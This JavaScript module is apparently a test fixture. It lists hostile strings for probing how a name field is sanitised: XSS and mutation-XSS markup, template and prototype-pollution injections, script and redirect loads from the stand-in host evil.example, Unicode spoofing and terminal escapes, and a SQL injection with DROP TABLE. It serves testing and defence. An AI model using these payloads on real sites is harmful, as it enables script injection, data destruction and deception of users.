// What people put where a name should be. Each would call `hit()`, load something, make an element, or break
// what stands around it, if it were anything but text.

const HOST = "https://evil.example";
const LONG = 1000;

/** Runs where it is read as HTML. */
const ELEMENTS = [
  "<script>hit()</script>",
  "<script src='https://evil.example/x.js'></script>",
  "<script type=module>import('https://evil.example/m.js')</script>",
  "<ScRiPt\t>hit()</sCrIpT >",
  "</title><script>hit()</script>",
  "</textarea><script>hit()</script>",
  "</style><script>hit()</script>",
  "--><script>hit()</script>",
  "]]><script>hit()</script>",
  "<img src=x onerror=hit()>",
  `<img src=${HOST}/hostile.png>`,
  '"><img src=x onerror=hit()>',
  "'><img src=x onerror='hit()'>",
  "`><img src=x onerror=hit()>",
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
  "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
  "<iframe src='javascript:parent.hit()'></iframe>",
  `<iframe src='${HOST}/hostile.html'></iframe>`,
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data='data:text/html,<script>parent.hit()</script>'></object>",
  "<embed src='javascript:hit()'>",
  "<body onload=hit()>",
  "<details open ontoggle=hit()><summary>x</summary></details>",
  "<input autofocus onfocus=hit()>",
  "<button onclick=hit() style='position:fixed;inset:0'>x</button>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()>",
  "<marquee onstart=hit()>x</marquee>",
  "<form action='javascript:hit()'><button>x</button></form>",
  "<a href='javascript:hit()'>x</a>",
  "<a href='data:text/html,<script>hit()</script>'>x</a>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/hostile'>",
  "<link rel=stylesheet href='https://evil.example/hostile.css'>",
  "<style>*{background:url(https://evil.example/hostile.png)}</style>",
  "<div style='background:url(https://evil.example/hostile.png)'>x</div>",
  "<template shadowrootmode=open><script>hit()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
  "<x onclick=hit() tabindex=1 onfocus=hit() autofocus>",
];

/** Run where something evaluates or follows it. */
const EXPRESSIONS = [
  "{{constructor.constructor('hit()')()}}",
  "${hit()}",
  "#{hit()} <%= hit() %> {%hit()%}",
  "javascript:hit()",
  "JaVaScRiPt:hit()//%0ahit()",
  "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
  "expression(hit()); -moz-binding:url(https://evil.example/x.xml)",
  '{"__proto__":{"hit":true},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}',
  "{n, plural, one {hit()} other {#}} '{x}' <0>y</0>",
];

/** Break what stands around them. */
const TEXTS = [
  "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62; &amp;amp; &nbsp;",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e %3Cscript%3Ehit()%3C/script%3E",
  "Muster\u202egpj.exe\u202c \u2066\u2067x\u2069 \u200f\u061c",
  "zero\u200bwidth\u200c\u200d\u2060\ufeff joiner",
  "M\u0443ster \u0410\u0430 \uff1cscript\uff1ehit()\uff1c/script\uff1e",
  "nul\u0000bell\u0007esc\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354l\u0368\u0367\u0369\u0358\u0320g",
  "W".repeat(LONG),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd} \u{1d4d0}\u{10ffff} \ufffe \ufdfa".repeat(20),
  "' OR 1=1 -- \"; DROP TABLE submission; /* */",
];

export const PAYLOADS = [...ELEMENTS, ...EXPRESSIONS, ...TEXTS];
